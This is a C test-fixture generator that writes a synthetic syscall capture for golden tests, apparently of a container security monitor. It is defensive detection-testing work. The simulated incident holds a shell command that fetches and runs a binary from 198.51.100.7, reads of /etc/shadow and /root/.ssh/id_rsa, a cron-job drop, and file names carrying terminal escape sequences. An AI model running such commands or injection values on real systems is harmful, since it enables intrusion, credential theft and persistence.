@@ -1,0 +1,440 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+/*
+ * Makes the capture that the golden tests read: a small incident, told through libscap's writer.
+ *
+ * On the host "web01" the container "db" runs already. The container "web" is started, serves one
+ * request too many, and through it a shell: a program is fetched, made executable, run as root and
+ * deleted. Somebody looks in from outside, then the container is killed. One loss on CPU 1.
+ *
+ * Time goes on by a millisecond an event unless said; names hold terminal escapes on purpose.
+ */
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "scap.h"
+
+#define START 1700000000000000000ull
+#define MS    1000000ull
+
+#define WEB   "3f4e2a1b9c0d11223344556677889900aabbccddeeff00112233445566778899"
+#define DB    "d0d1d2d3d4d5d6d7d8d9dadbdcdddedfd0d1d2d3d4d5d6d7d8d9dadbdcdddedf"
+#define HOSTG "cpuset=/\0memory=/system.slice/docker.service"
+#define WEBG  "cpuset=/docker/" WEB "\0memory=/docker/" WEB
+#define DBG   "cpuset=/docker/" DB "\0memory=/docker/" DB
+
+static struct scap_writer *writer;
+static uint64_t clock_ns = START;
+static uint16_t on_cpu;
+static uint64_t lost;
+
+static void die(const char *what)
+{
+	fprintf(stderr, "make_capture: %s\n", what);
+	exit(1);
+}
+
+/* ---- one event: its parameters as a list of values, encoded by the table's types ---- */
+
+struct value {
+	const void *ptr; /* NULL: the number */
+	uint32_t len;
+	uint64_t n;
+};
+
+#define N(x)  ((struct value){ NULL, 0, (uint64_t)(int64_t)(x) })
+#define S(s)  ((struct value){ (s), (uint32_t)strlen(s) + 1, 0 })
+#define B(s)  ((struct value){ (s), sizeof(s) - 1, 0 }) /* bytes of a literal */
+#define L(s)  ((struct value){ (s), sizeof(s), 0 })	/* list of strings: the last NUL too */
+#define EMPTY ((struct value){ "", 0, 0 })
+
+static uint32_t width(uint8_t type)
+{
+	switch (type) {
+	case PT_INT8:
+	case PT_UINT8:
+	case PT_FLAGS8:
+	case PT_ENUMFLAGS8:
+	case PT_SIGTYPE:
+	case PT_L4PROTO:
+		return 1;
+	case PT_INT16:
+	case PT_UINT16:
+	case PT_FLAGS16:
+	case PT_ENUMFLAGS16:
+	case PT_SYSCALLID:
+	case PT_PORT:
+		return 2;
+	case PT_INT32:
+	case PT_UINT32:
+	case PT_FLAGS32:
+	case PT_ENUMFLAGS32:
+	case PT_UID:
+	case PT_GID:
+	case PT_MODE:
+		return 4;
+	default:
+		return 8;
+	}
+}
+
+static void emit(uint16_t type, uint64_t tid, const struct value *values, uint32_t n)
+{
+	static uint8_t record[65536];
+	struct {
+		struct scap_item_hdr hdr;
+		struct scap_loss loss;
+	} __attribute__((packed)) item = { { SCAP_ITEM_LOSS, sizeof(struct scap_loss) }, { 0 } };
+	const struct scap_event_info *info = scap_event_info(type);
+	struct scap_param params[SCAP_MAX_PARAMS];
+	struct scap_event ev;
+	int64_t len;
+	uint32_t i;
+
+	for (i = 0; i < n; i++) {
+		params[i].ptr = values[i].ptr ? values[i].ptr : &values[i].n;
+		params[i].len = values[i].ptr ? values[i].len : width(info->params[i].type);
+	}
+	clock_ns += MS;
+	len = scap_event_encode(record, sizeof(record), type, clock_ns, tid, params, n);
+	if (len < 0 || scap_event_decode(&ev, record, (size_t)len) < 0)
+		die("an event cannot be encoded");
+	ev.cpu = on_cpu;
+	if (lost) {
+		item.loss.buffer = lost;
+		item.loss.from = clock_ns - 20 * MS;
+		item.loss.to = clock_ns;
+		ev.items = (const uint8_t *)&item;
+		ev.items_len = sizeof(item);
+		lost = 0;
+	}
+	if (scap_writer_event(writer, &ev) < 0)
+		die("an event cannot be written");
+}
+
+#define EV(type, tid, ...)                                                  \
+	do {                                                                \
+		const struct value v_[] = { __VA_ARGS__ };                  \
+		emit(SCAP_EVT_##type, tid, v_, sizeof(v_) / sizeof(v_[0])); \
+	} while (0)
+
+/* ---- what processes do ---- */
+
+struct proc {
+	int64_t pid, vpid, ptid;
+	const char *comm, *exe, *exepath;
+	struct value args, cgroups;
+	uint32_t uid, flags;
+	uint64_t ino;
+};
+
+static void forks(const struct proc *parent, const struct proc *child)
+{
+	/* The child of another pid namespace is only known by its own event. */
+	const struct value both[] = {
+		N(0),		S(parent->exe),	 parent->args,
+		N(child->pid),	N(child->pid),	 N(parent->pid),
+		S("/"),		N(1024),	 N(0),
+		N(0),		N(1000),	 N(100),
+		N(0),		S(parent->comm), child->cgroups,
+		N(0),		N(parent->uid),	 N(parent->uid),
+		N(child->vpid), N(child->vpid),	 N(0),
+	};
+	struct value v[21];
+
+	memcpy(v, both, sizeof(both));
+	emit(SCAP_EVT_SYSCALL_CLONE_20_X, (uint64_t)child->pid, v, 21);
+	v[0] = N(child->vpid);
+	v[3] = v[4] = N(parent->pid);
+	v[5] = N(parent->ptid);
+	v[14] = parent->cgroups;
+	v[15] = N(parent->vpid != parent->pid ? SCAP_CLONE_CHILD_IN_PIDNS : 0);
+	v[18] = v[19] = N(parent->vpid);
+	emit(SCAP_EVT_SYSCALL_CLONE_20_X, (uint64_t)parent->pid, v, 21);
+}
+
+static void runs(const struct proc *p)
+{
+	EV(SYSCALL_EXECVE_19_X, (uint64_t)p->pid, N(0), S(p->exe), p->args, N(p->pid), N(p->pid),
+	   N(p->ptid), S("/"), N(1024), N(0), N(0), N(1000), N(100), N(0), S(p->comm), p->cgroups,
+	   L("PATH=/bin"), N(0), N(p->vpid), N(0xffffffffu), N(p->flags), N(0), N(0), N(0),
+	   N(p->ino), N(START), N(START), N(p->uid), S(p->exepath), N(p->pid), N(p->uid),
+	   S(p->exepath));
+}
+
+static void ends(int64_t pid, unsigned int status, unsigned int sig)
+{
+	EV(PROCEXIT_1_E, (uint64_t)pid, N(status << 8 | sig), N(status), N(sig), N(0), N(0));
+}
+
+static void opens(int64_t pid, int64_t fd, const char *name, uint32_t flags, uint64_t ino)
+{
+	EV(SYSCALL_OPENAT_2_E, (uint64_t)pid, N(-100), S(name), N(flags), N(0644));
+	EV(SYSCALL_OPENAT_2_X, (uint64_t)pid, N(fd), N(-100), S(name), N(flags), N(0644), N(0x29),
+	   N(ino));
+}
+
+static void closes(int64_t pid, int64_t fd)
+{
+	EV(SYSCALL_CLOSE_X, (uint64_t)pid, N(0), N(fd));
+}
+
+/* ---- the cast ---- */
+
+#define PROC(pid, vpid, ptid, comm, exe, path, args, group, uid, flags, ino)                     \
+	{                                                                                        \
+		pid, vpid, ptid, comm, exe, path, args, { group, sizeof(group), 0 }, uid, flags, \
+			ino                                                                      \
+	}
+
+static const struct proc shim = PROC(100, 100, 1, "containerd-shim", "containerd-shim",
+				     "/usr/bin/containerd-shim", L("-id\0" WEB), HOSTG, 0, 0, 11);
+static const struct proc web = PROC(500, 1, 100, "nginx", "nginx", "/usr/sbin/nginx",
+				    L("-g\0daemon off;"), WEBG, 0, SCAP_EXE_LOWER_LAYER, 21);
+static const struct proc worker = PROC(501, 7, 500, "nginx", "nginx", "/usr/sbin/nginx",
+				       L("-g\0daemon off;"), WEBG, 33, 0, 21);
+static const struct proc shell = PROC(502, 8, 501, "sh", "sh", "/bin/sh",
+				      L("-c\0cd /tmp; curl -O 198.51.100.7/x; ./x"), WEBG, 33, 0,
+				      22);
+static const struct proc cat = PROC(503, 9, 502, "cat", "cat", "/bin/cat", L("/etc/shadow"), WEBG,
+				    33, 0, 23);
+static const struct proc curl = PROC(504, 10, 502, "curl", "curl", "/usr/bin/curl",
+				     L("-O\000198.51.100.7/x"), WEBG, 33, 0, 24);
+static const struct proc chmod_x = PROC(505, 11, 502, "chmod", "chmod", "/bin/chmod",
+					L("+x\0/tmp/x"), WEBG, 33, 0, 25);
+static const struct proc dropped = PROC(506, 12, 502, "x", "./x", "/tmp/x",
+					L("\033[31mred\033[0m\nline"), WEBG, 33,
+					SCAP_EXE_UPPER_LAYER | SCAP_EXE_WRITABLE, 777);
+static const struct proc runc = PROC(600, 600, 100, "runc", "runc", "/usr/bin/runc",
+				     L("exec\0-it\0web\0sh"), HOSTG, 0, 0, 31);
+static const struct proc entered = PROC(601, 20, 600, "sh", "sh", "/bin/sh", L("-i"), WEBG, 0, 0,
+					22);
+static const struct proc docker = PROC(700, 700, 1, "docker", "docker", "/usr/bin/docker",
+				       L("kill\0web"), HOSTG, 0, 0, 41);
+
+static const char web_json[] =
+	"{\"container\":{\"id\":\"3f4e2a1b9c0d\",\"full_id\":\"" WEB "\",\"type\":0,"
+	"\"name\":\"web\",\"image\":\"registry.example/web:1.2\",\"imagerepo\":"
+	"\"registry.example/web\",\"imagetag\":\"1.2\",\"imageid\":\"\",\"imagedigest\":\"\","
+	"\"privileged\":false,\"is_pod_sandbox\":false,\"lookup_state\":1,"
+	"\"created_time\":1699999999,\"ip\":\"172.17.0.2\",\"labels\":{\"tier\":\"front\"}}}";
+static const char db_json[] =
+	"{\"container\":{\"id\":\"d0d1d2d3d4d5\",\"full_id\":\"" DB "\",\"type\":0,"
+	"\"name\":\"db\",\"image\":\"postgres:15\",\"imagerepo\":\"postgres\",\"imagetag\":\"15\","
+	"\"imageid\":\"\",\"imagedigest\":\"\",\"privileged\":false,\"is_pod_sandbox\":false,"
+	"\"lookup_state\":1,\"created_time\":1699990000,\"ip\":\"172.17.0.3\",\"labels\":{}}}";
+
+/* ---- the story ---- */
+
+static void serve(void)
+{
+	forks(&web, &worker);
+	EV(SYSCALL_SETUID_X, 501, N(0), N(33));
+	on_cpu = 1;
+	/* 203.0.113.9:40000 -> 172.17.0.2:80 */
+	EV(SOCKET_ACCEPT4_6_X, 501, N(5), B("\2\313\0\161\11\100\234\254\21\0\2\120\0"), N(0), N(0),
+	   N(128), N(0));
+	EV(SYSCALL_READ_X, 501, N(44), B("POST /upload HTTP/1.0\r\n\r\ncmd=sh+-c\033[2J\007 more"),
+	   N(5), N(4096));
+}
+
+static void break_in(void)
+{
+	forks(&worker, &shell);
+	runs(&shell);
+	forks(&shell, &cat);
+	runs(&cat);
+	EV(SYSCALL_OPENAT_2_E, 503, N(-100), S("/etc/shadow"), N(SCAP_O_RDONLY), N(0));
+	EV(SYSCALL_OPENAT_2_X, 503, N(-13), N(-100), S("/etc/shadow"), N(SCAP_O_RDONLY), N(0), N(0),
+	   N(0));
+	ends(503, 1, 0);
+	EV(SYSCALL_CHDIR_X, 502, N(0), S("/tmp"));
+}
+
+static void fetch(void)
+{
+	forks(&shell, &curl);
+	runs(&curl);
+	EV(SOCKET_SOCKET_X, 504, N(3), N(2), N(1), N(6));
+	EV(SOCKET_CONNECT_E, 504, N(3), B("\2\306\63\144\7\120\0"));
+	EV(SOCKET_CONNECT_X, 504, N(0), B("\2\254\21\0\2\110\210\306\63\144\7\120\0"), N(3),
+	   B("\2\306\63\144\7\120\0"));
+	EV(SOCKET_SENDTO_X, 504, N(40), B("GET /x HTTP/1.0\r\n\r\n"), N(3), N(40), EMPTY);
+	lost = 17;
+	EV(SOCKET_RECVFROM_X, 504, N(5000), B("\177ELF\2\1\1"), EMPTY, N(3), N(65536));
+	opens(504, 4, "/tmp/x", SCAP_O_WRONLY | SCAP_O_CREAT | SCAP_O_TRUNC, 777);
+	EV(SYSCALL_WRITE_X, 504, N(5000), B("\177ELF\2\1\1"), N(4), N(5000));
+	closes(504, 4);
+	ends(504, 0, 0);
+}
+
+static void run_it(void)
+{
+	forks(&shell, &chmod_x);
+	runs(&chmod_x);
+	EV(SYSCALL_FCHMODAT_X, 505, N(0), N(-100), S("/tmp/x"), N(0755));
+	ends(505, 0, 0);
+	forks(&shell, &dropped);
+	runs(&dropped);
+	EV(SYSCALL_SETUID_X, 506, N(0), N(0));
+	EV(SOCKET_SOCKET_X, 506, N(3), N(2), N(1), N(6));
+	EV(SOCKET_CONNECT_X, 506, N(-111), EMPTY, N(3), B("\2\306\63\144\10\134\21"));
+	closes(506, 3);
+	opens(506, 3, "/root/.ssh/id_rsa", SCAP_O_RDONLY, 900);
+	EV(SYSCALL_READ_X, 506, N(30), B("-----BEGIN OPENSSH PRIVATE KEY"), N(3), N(4096));
+	closes(506, 3);
+	opens(506, 3, "/var/lib/\033]0;owned\007evil\n", SCAP_O_WRONLY | SCAP_O_CREAT, 901);
+	EV(SYSCALL_WRITE_X, 506, N(3), B("\033[H"), N(3), N(3));
+	EV(SYSCALL_RENAME_X, 506, N(0), S("/var/lib/\033]0;owned\007evil\n"), S("/etc/cron.d/job"));
+	closes(506, 3);
+	EV(SYSCALL_UNLINK_2_X, 506, N(0), S("/tmp/x"));
+	ends(506, 0, 0);
+	ends(502, 0, 0);
+}
+
+static void end_it(void)
+{
+	on_cpu = 0;
+	forks(&shim, &runc);
+	runs(&runc);
+	forks(&runc, &entered);
+	runs(&entered);
+	ends(601, 0, 0);
+	ends(600, 0, 0);
+	forks(&shim, &docker);
+	runs(&docker);
+	EV(SYSCALL_KILL_X, 700, N(0), N(500), N(9));
+	ends(501, 0, 9);
+	ends(500, 0, 9);
+	ends(700, 0, 0);
+}
+
+static void database(void)
+{
+	/* 172.17.0.9:51000 -> 172.17.0.3:5432 */
+	EV(SOCKET_ACCEPT4_6_X, 400, N(9), B("\2\254\21\0\11\70\307\254\21\0\3\70\25"), N(0), N(0),
+	   N(128), N(0));
+	EV(SOCKET_RECVFROM_X, 400, N(33), B("select 1"), EMPTY, N(9), N(8192));
+	EV(SOCKET_SENDTO_X, 400, N(70), B("1"), N(9), N(70), EMPTY);
+}
+
+static void tell(void)
+{
+	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(db_json));
+	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(web_json));
+	EV(USER_ADDED_E, (uint64_t)-1, N(0), N(0), S("root"), S("/root"), S("/bin/sh"),
+	   S("3f4e2a1b9c0d"));
+	EV(USER_ADDED_E, (uint64_t)-1, N(33), N(33), S("www-data"), S("/var/www"), S("/bin/false"),
+	   S("3f4e2a1b9c0d"));
+	forks(&shim, &web);
+	runs(&web);
+	EV(SOCKET_SOCKET_X, 500, N(3), N(2), N(1), N(6));
+	EV(SOCKET_BIND_X, 500, N(0), B("\2\0\0\0\0\120\0"), N(3));
+	EV(SOCKET_LISTEN_X, 500, N(0), N(3), N(128));
+	database();
+	serve();
+	break_in();
+	fetch();
+	run_it();
+	end_it();
+}
+
+/* ---- the machine when it began ---- */
+
+static struct scap_fd db_fds[] = {
+	{ .fd = 3,
+	  .ino = 71,
+	  .type = SCAP_FD_IPV4_SERVSOCK,
+	  .l4proto = SCAP_L4_TCP,
+	  .sport = 5432,
+	  .name = "" },
+	{ .fd = 4,
+	  .ino = 72,
+	  .type = SCAP_FD_FILE_V2,
+	  .open_flags = SCAP_O_RDWR,
+	  .dev = 0x29,
+	  .name = "/var/lib/db/wal" },
+};
+
+static struct scap_thread threads[] = {
+	{ .tid = 1,
+	  .pid = 1,
+	  .comm = "systemd",
+	  .exe = "/sbin/init",
+	  .exepath = "/sbin/init",
+	  .cgroups = { HOSTG, sizeof(HOSTG) } },
+	{ .tid = 100,
+	  .pid = 100,
+	  .ptid = 1,
+	  .comm = "containerd-shim",
+	  .exe = "containerd-shim",
+	  .exepath = "/usr/bin/containerd-shim",
+	  .cgroups = { HOSTG, sizeof(HOSTG) },
+	  .args = { "-id\0" WEB, sizeof("-id\0" WEB) } },
+	{ .tid = 400,
+	  .pid = 400,
+	  .ptid = 100,
+	  .comm = "postgres",
+	  .exe = "postgres",
+	  .exepath = "/usr/bin/postgres",
+	  .cgroups = { DBG, sizeof(DBG) },
+	  .uid = 70,
+	  .gid = 70,
+	  .args = { "-D\0/var/lib/db", sizeof("-D\0/var/lib/db") },
+	  .fds = db_fds,
+	  .n_fds = sizeof(db_fds) / sizeof(db_fds[0]) },
+};
+
+static struct scap_user users[] = {
+	{ 0, 0, "root", "/root", "/bin/bash" },
+	{ 33, 33, "www-data", "/var/www", "/usr/sbin/nologin" },
+	{ 70, 70, "postgres", "/var/lib/db", "/bin/sh" },
+};
+
+static struct scap_group groups[] = { { 0, "root" }, { 33, "www-data" }, { 70, "postgres" } };
+
+static void fill_threads(void)
+{
+	size_t i;
+
+	for (i = 0; i < sizeof(threads) / sizeof(threads[0]); i++) {
+		struct scap_thread *t = &threads[i];
+
+		t->sid = t->pgid = t->vpgid = t->vtid = t->vpid = (int64_t)t->pid;
+		t->loginuid = UINT32_MAX;
+		t->cwd = t->root = "/";
+		t->fdlimit = 1024;
+		if (t->pid == 400)
+			t->vtid = t->vpid = 1;
+	}
+}
+
+int main(int argc, char **argv)
+{
+	struct scap_writer_options plain = { .compression = SCAP_PLAIN };
+	struct scap_snapshot snap = {
+		.machine = { .num_cpus = 2,
+			     .memory_bytes = 2048ull << 20,
+			     .boot_time = START - 3600000 * MS,
+			     .hostname = "web01" },
+		.threads = threads,
+		.n_threads = sizeof(threads) / sizeof(threads[0]),
+		.users = users,
+		.n_users = sizeof(users) / sizeof(users[0]),
+		.groups = groups,
+		.n_groups = sizeof(groups) / sizeof(groups[0]),
+	};
+	struct scap_error err = { 0 };
+
+	if (argc != 2)
+		die("usage: make_capture FILE");
+	fill_threads();
+	writer = scap_writer_open(argv[1], &plain, &snap, &err);
+	if (!writer)
+		die(err.msg);
+	tell();
+	if (scap_writer_close(writer, &err) < 0)
+		die(err.msg);
+	return 0;
+}
